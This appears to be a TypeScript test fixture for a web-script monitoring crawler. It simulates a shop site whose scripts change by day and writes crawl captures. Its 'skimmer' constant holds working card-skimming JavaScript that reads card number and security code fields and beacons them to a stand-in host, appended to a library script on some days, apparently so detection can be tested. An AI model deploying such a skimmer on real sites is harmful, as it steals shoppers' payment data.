import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { sha256 } from '../../../core/encoding/index.ts';
import type { Capture, Sighting, Visit } from '../../../core/schema/index.ts';
import { prepareFolder } from '../../../crawler/capture/index.ts';
import { writeCapture } from '../../../crawler/capture/write.ts';
import type { Crawl } from '../../../crawler/types.ts';

const pages = ['https://shop.example/', 'https://shop.example/cart', 'https://shop.example/checkout'];

/** A reader of the card form that sends it away, in the plainest form; inert: the host does not exist. */
const skimmer = `document.forms[0].addEventListener('submit', function () {
  var card = document.querySelector('#cc-number').value, code = document.querySelector('#cc-csc').value;
  navigator.sendBeacon('https://collect.invalid/p.gif', btoa(JSON.stringify({ card: card, code: code })));
});`;

interface Shown {
  url: string | null;
  body: string;
}

/** What the made site shows on a day, the same whenever it is asked: something changes every day. */
function scriptsOf(day: number, scripts: number): Shown[] {
  const steady = Array.from({ length: scripts }, (_, n): Shown => {
    const age = Math.floor((day + n) / scripts);
    const body = `(function () { var part${n} = ${age}; document.title = 'part ' + part${n}; })();`;
    return { url: `https://cdn.example/part-${n}.js`, body };
  });
  const library = `function add(a, b) { return a + b }`;
  return [
    ...steady,
    {
      url: `https://shop.example/app.${sha256(String(day)).slice(0, 8)}.js`,
      body: `var release = ${day}; show(release);`,
    },
    { url: 'https://cdn.example/lib.js', body: day % 3 === 2 ? `${library};${skimmer}` : library },
    { url: null, body: `window.token = '${sha256(`token ${day}`).slice(0, 16)}';` },
    ...(day % 4 === 3
      ? [{ url: 'https://ads.example/ad.js', body: `new Image().src = 'https://ads.example/${day}.gif'` }]
      : []),
  ];
}

/** A crawler that sees the made site as it is on a day. */
export function crawlOfDay(dayOf: () => Promise<number>, scripts: number): Crawl {
  return async ({ outDir }) => {
    await prepareFolder(outDir);
    const shown = scriptsOf(await dayOf(), scripts);
    for (const { body } of shown) await writeFile(join(outDir, 'bodies', `${sha256(body)}.js`), body);
    const capture = captureOf(shown);
    await writeCapture(outDir, capture);
    return capture;
  };
}

function captureOf(shown: readonly Shown[]): Capture {
  const at = new Date().toISOString();
  const visits = pages.map((url, index): Visit => ({
    id: `v${index}`,
    requestedUrl: url,
    url,
    start: index === 0,
    outcome: 'ok',
    status: 200,
    headers: [['content-security-policy', "default-src 'self'"]],
    redirects: [],
    frames: [{ id: `f${index}`, parentId: null, url, outOfProcess: false }],
    forms: [],
    connections: [],
    cookies: [],
    startedAt: at,
    durationMs: 1,
  }));
  const bodies = new Map(shown.map(({ body }) => [sha256(body), body]));
  const sightings = visits.flatMap((visit) =>
    shown.map(({ url, body }, order): Sighting => ({
      sha256: sha256(body),
      visitId: visit.id,
      kind: url === null ? 'inline' : 'external',
      frameId: null,
      url,
      redirects: [],
      pageUrl: visit.url,
      ...(url === null && { line: order + 1, column: 1 }),
      executed: true,
      initiator: { kind: 'parser' },
    })),
  );
  const distinct = bodies.size;
  return {
    schemaVersion: 1,
    tool: { version: '0', browser: 'none', userAgent: 'none' },
    site: { name: 'shop', startUrls: [pages[0]!], hosts: [] },
    state: 'done',
    startedAt: at,
    finishedAt: at,
    visits,
    versions: [...bodies].map(([hash, body]) => ({
      sha256: hash,
      bytes: Buffer.byteLength(body),
      media: 'js',
      file: `bodies/${hash}.js`,
    })),
    sightings,
    receipt: {
      complete: true,
      pages: { visited: pages.length, failed: 0, notVisited: 0 },
      targets: { attached: 1, failed: 0 },
      scripts: { parsed: distinct, read: distinct, failed: 0, distinct },
      requests: { total: 1, failed: 0, blocked: 0 },
      shortfalls: [],
      sandbox: 'full',
    },
  };
}
